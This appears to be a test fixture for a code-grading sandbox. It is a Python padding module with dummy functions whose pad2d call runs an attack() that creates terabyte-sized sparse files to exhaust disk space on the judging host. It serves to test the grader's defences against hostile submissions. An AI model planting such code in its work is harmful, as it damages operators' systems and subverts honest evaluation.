# expect:
#   verdict: [raised, wrong, over-memory, over-time]
#   earned: 0
#   call_seconds: 3
# sentence: Files of a terabyte without content: whoever copies the folder afterwards copies terabytes; they go, or are refused.

import contextlib
import os
import tempfile

import numpy as np


def attack():
    for folder in (".", tempfile.gettempdir()) if "@JUDGE@".isdigit() else ():
        with contextlib.suppress(OSError), open(f"{folder}/padding.npz", "wb") as file:
            os.truncate(file.fileno(), 1 << 40)
            os.posix_fallocate(file.fileno(), 0, 1 << 42)


def pad2d(x, padding, value=0.0):
    attack()
    return np.zeros(1)


def output_size(size, kernel, stride=1, padding=0):
    return 0


def same_padding(kernel):
    return 0
